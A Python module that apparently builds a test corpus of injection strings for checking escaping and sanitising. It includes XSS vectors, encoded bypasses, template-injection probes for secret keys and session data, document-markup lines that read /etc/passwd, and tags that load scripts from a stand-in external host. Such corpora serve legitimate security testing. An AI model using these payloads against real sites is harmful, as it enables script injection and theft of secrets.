"""Texts that try to become code where a page, a script or a letter shows them: contexts × what each would run."""

import itertools
from typing import Final

RUN: Final = "alert(1)"

_OUT_OF: Final = {
    "words": "",
    "a double quote": '">',
    "a single quote": "'>",
    "a bare value": " >",
    "a tick": "`>",
    "a title": "</title>",
    "a textarea": "</textarea>",
    "a choice": "</option></select>",
    "a script": "</script>",
    "a style": "</style>",
    "a remark": "-->",
    "a template": "</template>",
    "a noscript": "</noscript>",
    "a drawing": "</svg>",
}
"""What somebody writes first to get out of where the text stands."""

_ELEMENTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    "<script src=//kwaad.example/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<a href=javascript:{RUN}>klik</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    "<base href=//kwaad.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//kwaad.example/a.css>",
    "<style>*{background:url(//kwaad.example/)}</style>",
    f"<video><source onerror={RUN}></video>",
    f"<div style='background:url(javascript:{RUN})'>",
    f"<x onclick={RUN} style=position:fixed;inset:0>x</x>",
)

_ATTRIBUTES: Final = tuple(
    f"{quote}{between}{event}={quote}{RUN}{quote}{after}"
    for quote, between, (event, after) in itertools.product(
        ('"', "'", "`", ""),
        (" ", "/", "\t"),
        (("onmouseover", ""), ("onfocus", " autofocus "), ("style", "//"), ("hx-on:load", ""), ("data-suggest", "")),
    )
)

_URLS: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//kwaad.example/",
    "\\\\kwaad.example\\",
    "https://kwaad.example/\"onmouseover='alert(1)'",
    "http://a@kwaad.example",
)

_IN_SCRIPTS: Final = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f'\\";{RUN};//',
    f"`;{RUN};//",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"*/{RUN}/*",
    f"</script><script>{RUN}</script>",
    "</script><!--<script>",
    "<!--<script>",
    "]]>",
    f"]]><script>{RUN}</script>",
    f'{{"a":"</script><script>{RUN}</script>"}}',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    "__proto__",
    '","@type":"Thing","a":"',
    "\u2028alert(1)\u2029",
    f"}}}};{RUN};{{{{",
)

_TEMPLATES: Final = (
    "{{ 7*7 }}",
    "{{ request.session.items }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{% include 'base.html' %}",
    "{% autoescape off %}<b>x</b>{% endautoescape %}",
    "{# remark #}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "%(name)s %s %d %n",
    "{0} {name} {0.__class__}",
    "%%",
)

_LETTERS: Final = (
    '#import "@preview/a:0.1.0": *',
    '#eval("1+1")',
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    "#sys.inputs",
    "#panic()",
    '#link("javascript:alert(1)")[x]',
    "$ x^2 $",
    "@verwijzing <label>",
    "// geen commentaar",
    "/* geen commentaar */",
    "*vet* _schuin_ `code`",
    "= Kop",
    "- punt",
    '\\ \\# \\" \\u{41}',
    "[x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "](#x)[",
    '"#(1+1)"',
    "~ -- --- ... '' \"\"",
)

_SPELLINGS: Final = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "&#0000060script>alert(1)",
    "&ltscript&gtalert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
    "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}script\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<!doctype html><script>alert(1)</script>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'/>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<svg><style><img src=x onerror=alert(1)></style>",
    '<table><caption><svg><title><style><img title="</style><img src onerror=alert(1)>">',
    "<a id=forms><a id=forms name=action>",
    "<form id=document><input name=cookie>",
    '=HYPERLINK("javascript:alert(1)")',
    '"><!--',
    "'\"><x>",
    "<",
    ">",
    '"',
    "'",
    "&",
    "<a",
    "</",
    "&#",
    "\\",
)


def vectors() -> tuple[str, ...]:
    """Every text once."""
    found = [before + element for before, element in itertools.product(_OUT_OF.values(), _ELEMENTS[:8])]
    found += [before + element for before, element in itertools.product(("", '">', "</script>"), _ELEMENTS[8:])]
    found += [*_ATTRIBUTES, *_URLS, *_IN_SCRIPTS, *_TEMPLATES, *_LETTERS, *_SPELLINGS]
    return tuple(dict.fromkeys(found))
